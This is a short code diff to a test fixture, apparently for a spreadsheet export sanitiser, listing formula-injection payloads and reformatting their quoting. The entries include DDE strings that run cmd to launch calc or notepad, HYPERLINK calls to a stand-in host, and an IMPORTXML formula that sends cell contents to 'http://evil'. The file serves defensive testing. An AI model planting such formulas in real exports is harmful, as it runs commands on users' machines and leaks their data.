@@ -8,14 +8,14 @@ export const HOSTILE_CELLS = [
   '-1+1',
   '-1-HYPERLINK("http://evil","x")',
   "-cmd|' /C calc'!A0",
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '@SUM(A1:A2)',
   '\t=1+1',
   '\r=1+1',
   '\t-1+1',
-  '=cmd|\' /C notepad\'!\'A1\'',
+  "=cmd|' /C notepad'!'A1'",
   '＝HYPERLINK("http://evil","x")',
-  "=IMPORTXML(CONCAT(\"http://evil/?v=\", A1), \"//a\")",
+  '=IMPORTXML(CONCAT("http://evil/?v=", A1), "//a")',
 ];
 
 /** Plain numbers a spreadsheet reads as numbers: they must reach it unchanged. */
